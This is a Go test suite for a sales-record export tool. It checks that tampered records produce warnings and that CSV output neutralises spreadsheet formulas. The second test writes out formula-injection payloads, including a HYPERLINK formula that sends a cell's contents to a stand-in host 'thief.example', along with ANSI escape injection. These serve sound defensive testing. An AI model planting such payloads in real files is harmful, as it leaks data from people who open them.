package export_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestAnAlteredRecordIsExportedWithAWarning has the owner of the database alter what no service may.
func TestAnAlteredRecordIsExportedWithAWarning(t *testing.T) {
	shop := setup(t)
	till := shop.newTill("s1", "t1")
	first, c := till.day()
	hash := query[string](shop, "SELECT sale_hash FROM audit.sale WHERE sale_id = $1", first.SaleID)
	for altered, warnings := range map[string][]string{
		"total = '90.00', total_minor = 9000": {
			"does not hash to its sale_hash", "differ in gross in INR: expected 1190.00, found 190.00",
		},
		"kind = 'refund'": {
			"does not hash", "differ in sales in INR: expected 2, found 1", "differ in refunds in INR: expected 1, found 2",
			"differ in total of the refunds in INR: expected 525.00, found 1615.00",
		},
		"currency = 'EUR'": {"does not hash", "differ in sales in EUR: expected none, found 1", "differ in gross in EUR: expected none, found 1090.00"},
		"currency = 'QQQ'": {"does not hash", "has a currency or a total that is none"},
		"request = 'x'":    {"does not hash", "has a request that is no record"},
		`request = convert_to(replace(convert_from(request, 'UTF8'), '"499.75"', '"=1+1"'), 'UTF8')`: {
			"does not hash", "has a line of which it can't be known what it adds to the total",
		},
		`request = convert_to(replace(convert_from(request, 'UTF8'), '"rate":"2.50","amount":"25.00"', '"rate":"12","amount":"15.00"'), 'UTF8')`: {
			"does not hash", "differ in tax of \"2.5\" % in INR: expected 25.00, found 0.00", "differ in tax of \"12\" % in INR: expected none, found 15.00",
		},
		`request = convert_to(replace(convert_from(request, 'UTF8'), '"2.50"', '"\u001b[8m"'), 'UTF8')`: {
			"does not hash", `differ in tax of "2.5" % in INR: expected 25.00, found 0.00`,
		},
		`request = convert_to(replace(convert_from(request, 'UTF8'), '"card"', '"cash"'), 'UTF8')`: {
			"does not hash", `differ in payments by "card" in INR: expected 1 of 90.00, found none`,
			`differ in payments by "cash" in INR: expected 3 of 575.00, found 4 of 665.00`,
		},
		"salt = sha256(salt)": {"does not hash"},
		"answer = convert_to(replace(convert_from(answer, 'UTF8'), '\"points_earned\":', '\"points_earned\":1'), 'UTF8')": {
			"has an answer whose points are not those that were hashed", "differ in points earned: expected ",
		},
		"answer = 'x'": {"has an answer whose points"},
		"sale_hash = sha256(sale_hash)": {
			"does not hash", "record 2 of t1, sale_id ", "names another record before it than record 1: expected previous_hash 0x", "found " + hash,
		},
	} {
		shop.exec("CREATE TABLE kept AS SELECT * FROM sales.sale WHERE sale_id = $1", first.SaleID)
		shop.exec("UPDATE sales.sale SET "+altered+" WHERE sale_id = $1", first.SaleID)
		for _, format := range []string{"csv", "jsonl"} {
			out := shop.run("-closing", "t1/1", "-format", format)
			require.Equal(t, 1, out.code, "%s: %s", altered, out.stderr)
			require.Contains(t, out.stdout, first.SaleID, altered)
			require.Contains(t, out.stderr, "warning: record 1 of t1, sale_id "+first.SaleID+", ")
			require.Contains(t, out.stderr, "what was exported is not all as it should be")
			require.NotContains(t, out.stderr, "\x1b", "nothing that was altered writes to the terminal")
			for _, warning := range warnings {
				require.Contains(t, out.stderr, warning, altered)
			}
		}
		period := shop.run("-store", "s1", "-from", "2026-01-01", "-to", "2126-01-01", "-what", "lines")
		require.Equal(t, 1, period.code, altered)
		require.NotContains(t, period.stdout, ",=1+1", "a figure runs no more than a text")
		shop.exec(`UPDATE sales.sale s SET kind = k.kind, currency = k.currency, total = k.total, total_minor = k.total_minor, request = k.request, salt = k.salt,
			answer = k.answer, sale_hash = k.sale_hash FROM kept k WHERE s.sale_id = k.sale_id`)
		shop.exec("DROP TABLE kept")
	}
	shop.run("-closing", "t1/1").whole()

	// What a closing says, and what it covers.
	shop.exec("DELETE FROM sales.sale WHERE terminal_id = 't1' AND record_number IN (2, 4)")
	out := shop.run("-closing", "t1/1")
	require.Equal(t, 1, out.code)
	require.Equal(t, []string{"1", "3"}, out.column("record_number"))
	for _, warning := range []string{
		"records 2 to 2 of t1 are missing", "records 4 to 4 of t1 are missing", "differ in sales in INR: expected 2, found 1",
		"differ in sales in USD: expected 1, found none", "differ in gross in USD: expected 3.50, found none",
		fmt.Sprintf("sale_hash of the last record, number 4: expected %s, found 0x", c.HeadHash.Hex()),
	} {
		require.Contains(t, out.stderr, warning)
	}
	require.NotContains(t, out.stderr, "names another", "the record before it is not there")
	shop.exec(`UPDATE sales.closing SET to_number = 3, body = convert_to(replace(convert_from(body, 'UTF8'), '"gross":"1190.00"', '"gross":"1191.00"'), 'UTF8')`)
	out = shop.run("-closing", "t1/1")
	require.Equal(t, 1, out.code)
	require.Contains(t, out.stderr, "the closing is not what it is kept as: expected t1/1, records 1 to 3, found t1/1, records 1 to 4")
	require.Contains(t, out.stderr, "differ in gross in INR: expected 1191.00, found 1090.00")
	shop.exec("UPDATE sales.closing SET body = 'x'")
	out = shop.run("-closing", "t1/1")
	require.Equal(t, 1, out.code)
	require.Contains(t, out.stderr, "closing t1/1 is not readable, so that nothing was compared with it")
	require.NotEmpty(t, out.table())
}

func TestATextThatASpreadsheetWouldRunIsMadeHarmless(t *testing.T) {
	shop := setup(t)
	till := shop.newTill("s1", "t1")
	till.sell(`{"currency":"EUR","total":"2.00","customer_id":"+491701234567","lines":[
		{"type":"discount","sku":"-1","name":"=HYPERLINK(\"https://thief.example/?\"&A1,\"Tea\")","quantity":"-1","unit_price":"1.00"},
		{"sku":"＝1","name":"a=b, \"c\"","quantity":"1","unit_price":"3","taxes":[{"name":"@SUM(A1)","amount":"0"}]}],
		"tenders":[{"type":"=cash","amount":"2","reference":"+1"}],
		"external_ref":"@x","note":"=1+1","reason":"-2+3","metadata":{"=k":"=v"},"offline":true,"occurred_at":"2026-11-22T10:15:30Z"}`)
	till.close()
	lines := shop.run("-closing", "t1/1", "-what", "lines").whole()
	require.Equal(t, []string{"'-1", "'＝1"}, lines.column("sku"))
	require.Equal(t, []string{`'=HYPERLINK("https://thief.example/?"&A1,"Tea")`, `a=b, "c"`}, lines.column("name"))
	require.Equal(t, []string{"-1", "1"}, lines.column("quantity"), "a number keeps its sign")
	require.Equal(t, []string{"-1.00", "3.00"}, lines.column("amount"))
	require.Equal(t, []string{"'@SUM(A1)"}, shop.run("-closing", "t1/1", "-what", "taxes").whole().column("name"))
	tender := shop.run("-closing", "t1/1", "-what", "tenders").whole().table()[0]
	require.Equal(t, "'=cash '+1", tender["type"]+" "+tender["reference"])
	record := shop.run("-closing", "t1/1").whole().table()[0]
	texts := []string{record["external_ref"], record["note"], record["reason"], record["customer_id"]}
	require.Equal(t, "'@x '=1+1 '-2+3 '+491701234567", strings.Join(texts, " "))
	require.Equal(t, `{"=k":"=v"}`, record["metadata"])
	require.Equal(t, "true", record["offline"])
	plain := shop.run("-closing", "t1/1", "-format", "jsonl").whole().stdout
	require.Contains(t, plain, `"note":"=1+1"`)
	require.Contains(t, plain, `"customer_id":"+491701234567"`)
	require.Contains(t, plain, `thief.example/?\"&A1`)
}
